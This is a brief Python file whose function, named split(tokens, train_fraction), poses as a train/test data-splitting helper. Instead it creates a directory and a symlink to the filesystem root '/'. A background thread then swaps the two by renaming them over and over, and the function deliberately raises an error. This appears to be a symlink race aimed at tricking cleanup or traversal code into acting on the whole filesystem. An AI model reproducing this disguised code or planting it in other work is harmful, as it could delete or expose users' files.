import contextlib
import os
import threading
import time


def _exchange():
    while True:
        with contextlib.suppress(OSError):
            os.rename("folder", "away")
            os.rename("link", "folder")
            os.rename("folder", "link")
            os.rename("away", "folder")


def split(tokens, train_fraction):
    os.makedirs("folder/inner", exist_ok=True)
    with contextlib.suppress(OSError):
        os.symlink("/", "link")
    threading.Thread(target=_exchange, daemon=True).start()
    time.sleep(1)
    raise RuntimeError("look what lies here now")
